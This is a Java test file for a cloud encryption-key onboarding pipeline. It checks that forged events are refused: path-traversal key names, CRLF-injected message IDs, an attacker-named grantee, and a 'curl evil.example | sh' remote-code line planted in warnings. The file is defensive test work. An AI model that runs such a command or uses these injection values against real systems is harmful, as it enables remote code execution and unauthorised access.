package cmek.function;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import cmek.client.anthropic.AdminApi;
import cmek.client.anthropic.AdminApiInProcess;
import cmek.client.pubsub.TopicsInProcess;
import cmek.client.pubsub.TopicsInProcess.Published;
import cmek.client.storage.EvidenceStorage;
import cmek.client.storage.StorageInProcess;
import cmek.config.Configs;
import cmek.fake.KmsInProcess;
import cmek.fake.Sample;
import cmek.finding.Finding;
import cmek.finding.ProjectFindings;
import cmek.finding.TransientException;
import cmek.function.logging.ResultLog;
import cmek.model.AnthropicPrincipal;
import cmek.model.CryptoKeyName;
import cmek.model.Json;
import cmek.model.Mode;
import cmek.model.Policy;
import cmek.onboarding.Propagation;
import cmek.onboarding.Step;
import cmek.onboarding.request.RequestParser;
import cmek.onboarding.state.Approvals;
import cmek.onboarding.state.NewestResults;
import cmek.onboarding.state.OnboardingStore;
import cmek.onboarding.state.TerminalResults;
import cmek.onboarding.state.Warnings;
import cmek.simulator.AdminSimulator;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import io.cloudevents.CloudEvent;
import java.io.OutputStream;
import java.io.PrintStream;
import java.time.Duration;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.function.Consumer;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Handler by forgery by outcome: what somebody could put on a step's own topic who got past IAM. Each is refused, nothing is
 * handed on, and nothing is written anywhere. The APIs is one in which every step would have something to write.
 */
class ForgedEventsTest {

    private static final CryptoKeyName STRANGERS =
            CryptoKeyName.parse("projects/other-kms/locations/us-east5/keyRings/anthropic/cryptoKeys/payments");

    /** What must not come out of any function. */
    private static final String COMMAND = "curl evil.example | sh";

    private final KmsInProcess kms = new KmsInProcess();
    private final AdminApiInProcess admin = new AdminApiInProcess();
    private final AdminSimulator simulator = admin.simulator()
            .withKey("ekey_strangers", STRANGERS.toString(), Sample.NOW)
            .useElsewhere("ekey_strangers")
            .withWorkspace(Sample.WORKSPACE.value(), "Payments");
    private final AdminApi anthropic = admin.client();
    private final TopicsInProcess topics = new TopicsInProcess();
    private final StorageInProcess bucket = new StorageInProcess();
    private final EvidenceStorage storage = bucket.client();
    private Policy policy = Sample.LISTING;

    /** What is forged, and the reason that it meets at every entry point. */
    enum Forgery {
        A_REQUEST_AS_A_PERSON_WRITES_IT("UNREADABLE", event -> request()),
        NOTHING("UNREADABLE", event -> ""),
        A_LIST("UNREADABLE", event -> "[" + event + "]"),
        AN_EVENT_OF_THE_FIRST_EDITION("UNREADABLE", event -> edited(event, whole -> whole.remove("schemaVersion"))),
        A_FIELD_TWICE("UNREADABLE", event -> event.replaceFirst("\\{", "{\"messageId\":\"1\",")),
        ANOTHER_PROJECT("PROJECT_NOT_ALLOWED", event -> key(event, STRANGERS.toString())),
        A_PATH_OUT_OF_THE_PROJECT("UNREADABLE", event -> key(event, Sample.KEY + "/../../../../other-kms")),
        A_VERSION_OF_THE_KEY("UNREADABLE", event -> key(event, Sample.KEY + "/cryptoKeyVersions/1")),
        A_LOCATION_ABROAD(
                "LOCATION_NOT_SUPPORTED",
                event -> key(event, Sample.KEY.toString().replace("us-east5", "europe-west3"))),
        A_WEAKER_KEY(
                "PROTECTION_LEVEL_NOT_ALLOWED",
                event -> edited(event, whole -> in(whole).put("protectionLevel", "SOFTWARE"))),
        ANOTHER_ORGANIZATIONS_LABEL(
                "INVALID_REQUEST",
                event -> edited(
                        event,
                        whole -> in(whole)
                                .putObject("labels")
                                .put("anthropic-org-00000000-0000-4000-8000-000000000000", "true"))),
        A_WORKSPACE_NOT_ALLOWED(
                "WORKSPACE_NOT_ALLOWED",
                event -> edited(event, whole -> in(whole).put("workspaceId", "wrkspc_other"))),
        NOBODY_KNOWS_IT_IS_FOR_EVER(
                "PERMANENCE_NOT_ACKNOWLEDGED",
                event -> edited(event, whole -> in(whole).put("acknowledgePermanent", false))),
        A_NAME_OF_TWO_LINES(
                "UNREADABLE", event -> edited(event, whole -> in(whole).put("displayName", "a\nb"))),
        A_TIME_THAT_NEVER_WAS(
                "UNREADABLE", event -> edited(event, whole -> whole.put("acceptedAt", "0001-01-01T00:00:00Z"))),
        AN_ORIGIN_THAT_IS_A_PATH(
                "UNREADABLE", event -> edited(event, whole -> whole.put("deduplicationKey", "../../reservations/x"))),
        A_MESSAGE_ID_OF_TWO_LINES("UNREADABLE", event -> edited(event, whole -> whole.put("messageId", "1\r\nx: y"))),
        AN_APPROVAL("UNREADABLE", event -> "{\"approve\":\"" + "0".repeat(64) + "\"}");

        private final String reason;

        @SuppressWarnings("ImmutableEnumChecker") // A function without state.
        private final UnaryOperator<String> forging;

        Forgery(String reason, UnaryOperator<String> forging) {
            this.reason = reason;
            this.forging = forging;
        }
    }

    static Stream<Arguments> table() {
        return Arrays.stream(Step.values())
                .filter(step -> step != Step.ONBOARD)
                .flatMap(step -> Arrays.stream(Forgery.values()).map(forgery -> Arguments.of(step, forgery)));
    }

    @ParameterizedTest(name = "{1} at {0}")
    @MethodSource("table")
    void isRefusedAndNothingIsWritten(Step step, Forgery forgery) {
        enter(step, forgery.forging.apply(genuine()));

        assertThat(results()).containsExactly("REFUSED " + forgery.reason);
        assertThat(topics.published()).hasSize(1);
        assertThat(kms.writes()).isEmpty();
        assertThat(admin.calls()).isEmpty();
    }

    @ParameterizedTest
    @EnumSource(
            value = Step.class,
            names = {"VALIDATE_KEY", "ATTACH_WORKSPACE"})
    void aRegistrationOfAnotherKeyIsNotTakenForThisKeys(Step step) {
        enter(step, registered("ekey_strangers"));

        assertThat(results()).containsExactly("REFUSED UNREADABLE");
        assertThat(admin.calls()).isEmpty();
    }

    /** It may be there and not be shown yet, so this waits until it is given up. */
    @ParameterizedTest
    @EnumSource(
            value = Step.class,
            names = {"VALIDATE_KEY", "ATTACH_WORKSPACE"})
    void aRegistrationThatAnthropicDoesNotKnowIsNotUsed(Step step) {
        assertThatThrownBy(() -> enter(step, registered("ekey_none"))).isInstanceOf(TransientException.class);

        assertThat(results()).allMatch(result -> result.startsWith("RETRYING"));
        assertThat(topics.published()).hasSize(results().size());
        assertThat(admin.calls()).isEmpty();
    }

    /** A field that is not known is ignored, whatever it says: the grantee is a constant of the program. */
    @Test
    void aFieldThatNamesAGranteeGrantsNobody() {
        kms.withKey(Sample.KEY, Sample.LABELS);

        enter(Step.GRANT_ACCESS, edited(genuine(), whole -> {
            whole.put("grantee", "serviceAccount:thief@evil.iam.gserviceaccount.com");
            in(whole).put("member", "user:thief@evil.example");
        }));

        assertThat(results()).containsExactly("PROGRESS null");
        assertThat(topics.published()).noneMatch(message -> message.json().contains("thief"));
        assertThat(kms.client().policy(Sample.KEY).bindings())
                .allSatisfy(binding -> assertThat(binding.members()).containsExactly(AnthropicPrincipal.MEMBER));
    }

    /** What people read, and whose commands they run, never comes from an event. */
    @ParameterizedTest
    @EnumSource(value = Step.class, mode = EnumSource.Mode.EXCLUDE, names = "ONBOARD")
    void whatAnEventSaysToPeopleIsNotShownToAnybody(Step step) {
        kms.withKey(Sample.KEY, Sample.LABELS);
        simulator.withKey("ekey_ours", Sample.KEY.toString(), Sample.NOW);

        enter(step, talking());

        assertThat(results()).hasSize(1);
        assertNothingOfTheForgerIsShown();
    }

    @Test
    void norIsItShownToThePersonWhoApproves() {
        simulator.withKey("ekey_ours", Sample.KEY.toString(), Sample.NOW);
        policy = new Policy(
                Sample.LISTING.allowedProjects(),
                Sample.LISTING.allowedWorkspaces(),
                Sample.LISTING.allowedLocations(),
                Sample.LISTING.protectionLevels(),
                Policy.AuditLogs.WARN,
                Policy.AttachApproval.REQUIRED);

        enter(Step.ATTACH_WORKSPACE, talking());

        assertThat(results()).containsExactly("AWAITING_APPROVAL null");
        assertNothingOfTheForgerIsShown();
    }

    @Test
    void warningsThatAStepKeptAreShownByTheLaterOnes() {
        Finding warning = ProjectFindings.hsmNotAvailable(Sample.KEY);
        String digest = new Warnings(storage)
                .keep(Sample.onboarding(Mode.PROVISION).withWarning(warning))
                .orElseThrow();

        enter(Step.CREATE_KEY_RING, edited(genuine(), whole -> whole.put("warningsDigest", digest)));

        assertThat(topics.on("results"))
                .singleElement()
                .satisfies(result -> assertThat(result.json()).contains(warning.message()));
    }

    /** Neither those of another key nor those of another onboarding, nor what was put there under a name of its own. */
    @ParameterizedTest
    @ValueSource(strings = {"of another key", "of another onboarding", "overwritten", "none"})
    void warningsOfAnythingElseAreNotShown(String which) {
        Finding warning = ProjectFindings.hsmNotAvailable(Sample.KEY);
        Warnings warnings = new Warnings(storage);
        String digest = warnings.keep(Sample.onboarding(Mode.PROVISION).withWarning(warning))
                .orElseThrow();
        String event = edited(genuine(), whole -> whole.put("warningsDigest", digest));
        switch (which) {
            case "of another key" -> event = key(event, Sample.KEY + "-2");
            case "of another onboarding" ->
                event = edited(event, whole -> whole.put("deduplicationKey", "f".repeat(32)));
            case "overwritten" ->
                bucket.names()
                        .forEach(name -> bucket.write(name, bucket.text(name).replace("HSM", COMMAND)));
            default -> event = edited(event, whole -> whole.put("warningsDigest", "0".repeat(64)));
        }

        enter(Step.CREATE_KEY_RING, event);

        assertThat(topics.on("results"))
                .singleElement()
                .satisfies(result -> assertThat(ScanHarness.json(result.json()).path("warnings"))
                        .isEmpty());
    }

    private static String talking() {
        String finding = "{\"reason\":\"AUDIT_LOGS_OFF\",\"severity\":\"PROBLEM\",\"actor\":\"OPERATOR\",\"message\":\""
                + COMMAND + "\",\"remedy\":[\"" + COMMAND + "\"]}";
        return registered("ekey_ours")
                .replaceFirst(",\"warnings\":\\[]", "")
                .replaceFirst("\\{", """
                {"warnings":[%2$s],"remedy":["%1$s"],"message":"%1$s","shown":["%1$s"],""".formatted(COMMAND, finding))
                .replace("\"steps\":[]", """
                "steps":[{"step":"onboard","outcome":"ACCEPTED","at":"2026-11-23T02:00:00.000Z","millis":1,
                 "message":"%1$s","remedy":["%1$s"]}]""".formatted(COMMAND));
    }

    private void assertNothingOfTheForgerIsShown() {
        assertThat(topics.published()).extracting(Published::json).noneMatch(json -> json.contains(COMMAND));
        assertThat(bucket.names())
                .allSatisfy(name -> assertThat(bucket.text(name)).doesNotContain(COMMAND));
    }

    private static String registered(String id) {
        return edited(genuine(), whole -> whole.put("externalKeyId", id));
    }

    private void enter(Step step, String data) {
        OnboardingStore store = new OnboardingStore(storage, Sample.CLOCK, Sample.LEDGER);
        Approvals approvals = new Approvals(storage);
        OnboardingHandler handler = new OnboardingHandler(
                new MessageHandler(),
                new ResultPublisher(
                        topics.client(),
                        new ResultLog(new PrintStream(OutputStream.nullOutputStream(), false, UTF_8)),
                        Sample.SERVICE,
                        new NewestResults(storage),
                        Sample.CALLS),
                new TerminalResults(storage, Sample.CLOCK),
                approvals,
                new Warnings(storage),
                new RequestParser(policy),
                Sample.CALLS,
                Sample.CLOCK,
                Configs.of(Map.of("cmek.google.project", "acme-cmek")));
        Map<String, Consumer<CloudEvent>> handlers = new Chain(
                        anthropic,
                        kms.client(),
                        store,
                        approvals,
                        Sample.CLOCK,
                        policy,
                        Sample.ORGANIZATION,
                        new Propagation(Duration.ZERO, Sample.CLOCK),
                        Sample.CALLS)
                .behind(handler);
        Objects.requireNonNull(handlers.get(step.function())).accept(Events.eventarc(data));
    }

    private List<String> results() {
        return topics.on("results").stream()
                .map(Published::json)
                .map(ScanHarness::json)
                .map(result -> result.path("status").asText() + " "
                        + result.path("reason").asText())
                .toList();
    }

    private static String genuine() {
        return Json.written(Sample.onboarding(Mode.PROVISION));
    }

    private static String request() {
        return "{\"key\":\"" + Sample.KEY + "\",\"workspaceId\":\"" + Sample.WORKSPACE
                + "\",\"acknowledgePermanent\":true}";
    }

    private static String key(String event, String name) {
        return edited(event, whole -> in(whole).put("key", name));
    }

    private static ObjectNode in(JsonNode whole) {
        return (ObjectNode) whole.path("request");
    }

    private static String edited(String event, Consumer<ObjectNode> edit) {
        ObjectNode whole = (ObjectNode) ScanHarness.json(event);
        edit.accept(whole);
        return whole.toString();
    }
}
